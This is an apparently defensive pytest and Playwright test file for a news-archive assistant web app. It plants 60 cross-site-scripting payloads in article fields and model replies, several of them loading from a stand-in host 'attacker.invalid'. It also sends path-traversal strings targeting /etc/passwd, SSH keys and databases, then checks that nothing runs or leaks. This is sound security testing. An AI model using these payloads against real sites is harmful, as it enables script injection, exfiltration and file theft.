"""Words that would run or load something stay words, wherever they come from."""

from __future__ import annotations

import http.client
import json
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote, urlsplit

import pytest
from playwright.sync_api import Page, expect

from tests.assistant.model_server import serve as model_server
from tests.end_to_end.conftest import serving
from vectorstore import Archive

AWAY = "http://attacker.invalid"
RUN = "window.ran=1"
PAYLOADS = (
    # script
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT>",
    f"<script src={AWAY}/1.js></script>",
    f"<script type=module src={AWAY}/2.js></script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</script>",
    # img and media
    f"<img src=x onerror={RUN}>",
    f'<img src="{AWAY}/3.png">',
    f'<img srcset="{AWAY}/4.png 1x">',
    f'"><img src={AWAY}/5.png onerror={RUN}>',
    f"'><img src={AWAY}/6.png>",
    f"<image href={AWAY}/7.png>",
    f"<video src={AWAY}/8.mp4 autoplay onerror={RUN}></video>",
    f"<audio src={AWAY}/9.mp3 autoplay></audio>",
    f"<picture><source srcset={AWAY}/10.png><img></picture>",
    f"<body background={AWAY}/11.png onload={RUN}>",
    # svg and MathML
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><image href={AWAY}/12.png /></svg>",
    f"<svg><use href={AWAY}/13.svg#a></use></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    # style
    f"<style>@import '{AWAY}/14.css';</style>",
    f"<style>*{{background:url({AWAY}/15.png)}}</style>",
    f'<p style="background:url({AWAY}/16.png)">x</p>',
    f'" style="background:url({AWAY}/17.png)" x="',
    f'<div style="position:fixed;inset:0;background:url({AWAY}/18.png)">over</div>',
    # form
    f"<form action={AWAY}/19><button autofocus onfocus={RUN}>go</button></form>",
    f"<input autofocus onfocus={RUN}>",
    f"<button formaction=javascript:{RUN}>press</button>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<select autofocus onfocus={RUN}><option>x</select>",
    # link and meta
    f"<link rel=stylesheet href={AWAY}/20.css>",
    f"<link rel=prefetch href={AWAY}/21>",
    f"<link rel=dns-prefetch href={AWAY}>",
    f'<meta http-equiv=refresh content="0;url={AWAY}/22">',
    f"<base href={AWAY}/>",
    # iframe and the like
    f"<iframe src={AWAY}/23></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<object data={AWAY}/24></object>",
    f"<embed src={AWAY}/25>",
    # Markdown
    f"![moth]({AWAY}/26.png)",
    f"[![moth]({AWAY}/27.png)]({AWAY}/28)",
    f"[here](javascript:{RUN})",
    f"[there][ref] [ref]: {AWAY}/29.png 'x'",
    f"![there][img] [img]: {AWAY}/30.png",
    f"<javascript:{RUN}>",
    # addresses
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"java\tscript:{RUN}",
    # entities and templates
    f"&lt;img src=x onerror={RUN}&gt; &#60;script&#62;{RUN}&#60;/script&#62;",
    f"${{{RUN}}} {{{{{RUN}}}}} <% {RUN} %>",
    # marks that turn the order round
    f"\u202e\u2067<img src=x onerror={RUN}>\u2069\u202c",
    f"\u2066\u2069\u200f<a href=javascript:{RUN}>\u202dclick\u202c</a>",
)
ASKED = "What do zorblax moths like?"
SECRET = "never to be read zzqx"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Any]]:
    """The page over articles each of which says a payload in every field; and its model."""
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "secret.txt").write_text(SECRET)
    stories = [
        {
            "id": f"story-{number}",
            "title": f"Zorblax {number} {payload}",
            "outlet": f"Gazette {payload}",
            "author": f"Author {payload}",
            "url": payload,
            "published": f"2025-03-{number % 28 + 1:02}",
            "text": f"Zorblax moths of valley {number} like {payload} very much, said keeper"
            f" {number}.\n\nNobody counted the {number} others on that day.",
        }
        for number, payload in enumerate(PAYLOADS)
    ]
    (folder / "stories.jsonl").write_text("\n".join(map(json.dumps, stories)))
    with Archive.open(folder / "archive") as archive:
        assert archive.ingest([folder / "stories.jsonl"]).added == len(PAYLOADS)
    with model_server() as model, serving(folder / "archive", model.url) as address:
        yield address, model


class Watched:
    """A page, and all that it tried: what it asked for elsewhere, and what ran."""

    def __init__(self, page: Page, address: str) -> None:
        self._page, self._address = page, address
        self.left: list[str] = []
        self.told: list[str] = []
        page.on("request", self._asked)
        page.on("dialog", self._said)

    def _asked(self, request: Any) -> None:
        if not request.url.startswith((self._address, "data:image", "blob:")):
            self.left.append(request.url)

    def _said(self, dialog: Any) -> None:
        self.told.append(dialog.message)
        dialog.dismiss()

    def nothing_ran(self, within: str) -> None:
        found = self._page.evaluate(
            """(within) => {
              const places = [...document.querySelectorAll(within)];
              const bad = 'script, img, svg, style, link, iframe, object, embed, video, audio,'
                + ' math, meta, base, picture, image, [onerror], [onload], [style*=url]';
              const links = places.flatMap((one) => [...one.querySelectorAll('a[href]')]);
              return {
                places: places.length,
                ran: window.ran ?? 'nothing',
                elements: places.flatMap((one) => [...one.querySelectorAll(bad)])
                  .map((element) => element.outerHTML),
                links: links.map((a) => a.protocol).filter((p) => !['http:', 'https:'].includes(p)),
                away: links.map((a) => a.href).filter((href) => href.includes('attacker')),
              };
            }""",
            within,
        )
        assert found.pop("places") > 0, within
        assert found == {"ran": "nothing", "elements": [], "links": [], "away": []}
        assert self.left == []
        assert self.told == []


def test_nothing_of_an_articles_text_title_outlet_or_address_runs(
    page: Page, hostile: tuple[str, Any]
) -> None:
    assert len(PAYLOADS) == 60
    address, _ = hostile
    watched = Watched(page, address)
    shown_whole = 0
    for number, payload in enumerate(PAYLOADS):
        page.goto(f"{address}/article/story-{number}@1#0-40")
        shown = page.locator("article.article")
        expect(shown.locator(".body")).to_contain_text(f"valley {number} like")
        body = shown.locator(".body").text_content() or ""
        shown_whole += payload in body and payload in (shown.locator("h2").text_content() or "")
        watched.nothing_ran("main")
    # The others were read as markup when they were ingested, or had marks closed.
    assert shown_whole > 50


def test_nothing_of_what_places_list_runs(page: Page, hostile: tuple[str, Any]) -> None:
    address, _ = hostile
    watched = Watched(page, address)
    page.goto(address)
    page.get_by_role("tab", name="Archive").click()
    expect(page.locator("#archive-place").get_by_text("Zorblax").first).to_be_visible()
    watched.nothing_ran("#archive-place .place")
    page.get_by_role("tab", name="Timeline").click()
    page.locator("#timeline-words").fill("zorblax moths")
    page.locator("#timeline-mentions").click()
    expect(page.locator("#timeline-place mark").first).to_be_visible()
    watched.nothing_ran("#timeline-place .place")


def test_nothing_of_what_a_model_writes_runs(page: Page, hostile: tuple[str, Any]) -> None:
    address, model = hostile
    model.reply = lambda _: [f"Moths like {payload} a lot [1].\n\n" for payload in PAYLOADS]
    watched = Watched(page, address)
    page.goto(address)
    ask(page, ASKED)
    answer = page.locator(".answer")
    expect(answer).to_contain_text("Moths like")
    watched.nothing_ran(".exchange, #sources")
    for cite in page.locator("a.cite").all()[:8]:
        if cite.is_visible():
            cite.hover()
            watched.nothing_ran("#peek")
    page.locator(".answer a.cite").first.click()
    expect(page.locator(".reader .article")).to_be_visible()
    watched.nothing_ran(".reader")


def test_nothing_of_the_history_runs(page: Page, hostile: tuple[str, Any]) -> None:
    address, model = hostile
    model.reply = lambda _: ["NOT IN THE ARCHIVE"]
    watched = Watched(page, address)
    page.goto(address)
    step = 20
    parts = [PAYLOADS[at : at + step] for at in range(0, len(PAYLOADS), step)]
    for count, payloads in enumerate(parts, 1):
        ask(page, f"Zorblax {count} " + " ".join(payloads), count)
    watched.nothing_ran(".exchange, #sources")
    page.get_by_role("button", name="Conversations", exact=True).click()
    row = page.locator("#shelf li").first
    row.get_by_text("Rename").click()
    row.get_by_role("textbox", name="Name").fill(f"{PAYLOADS[0]} {PAYLOADS[13]}")
    row.get_by_role("button", name="Apply").click()
    expect(page.locator("#shelf li").first).to_contain_text(PAYLOADS[0])
    watched.nothing_ran("#shelf")
    page.reload()
    expect(page.locator(".exchange")).to_have_count(len(parts))
    watched.nothing_ran(".exchange, #sources, #shelf")


def ask(page: Page, question: str, count: int = 1) -> None:
    page.get_by_label("Your question").fill(question)
    page.get_by_role("button", name="Ask", exact=True).click()
    expect(page.locator(".exchange[data-running=false]")).to_have_count(count)


# Paths

UP = ("..", "%2e%2e", "%252e%252e", "..%2f..", "..%5c..", "....//", "..;", "%c0%ae%c0%ae")
ENDS = ("secret.txt", "etc/passwd", "catalogue.sqlite", "conversations.sqlite")
PLAIN = (
    *("/etc/passwd", "//etc/passwd", "file:///etc/passwd", "%2fetc%2fpasswd", "C:%5cWindows"),
    *("secret.txt%00", "secret.txt%00.json", "~/.ssh/id_rsa"),
)
PATHS = (*(f"{up}/{up}/{end}" for up in UP for end in ENDS), *PLAIN)
ENDPOINTS = (
    *("/article/{}", "/article/{}@1", "/take/{}.json", "/take/{}/0.json", "/take/a/{}"),
    *("/answer/{}", "/assets/{}", "/static/{}", "/gradio_api/file={}", "/{}"),
    *("/gradio_api/heartbeat/{}", "/gradio_api/queue/data?session_hash={}"),
)


def test_no_path_leads_out_of_the_archive(hostile: tuple[str, Any]) -> None:
    assert len(PATHS) == 40
    address, _ = hostile
    connection = http.client.HTTPConnection(urlsplit(address).netloc, timeout=30)
    for endpoint in ENDPOINTS:
        for path in PATHS:
            for sent in {path, quote(path, safe="%")}:
                connection.request("GET", endpoint.format(sent).replace(" ", "%20"))
                answer = connection.getresponse()
                body = answer.read()
                asked = endpoint.format(sent)
                assert answer.status in (400, 404, 405), (asked, answer.status)
                assert SECRET.encode() not in body, asked
                assert b"root:" not in body, asked
                assert b"SQLite format" not in body, asked
    connection.close()
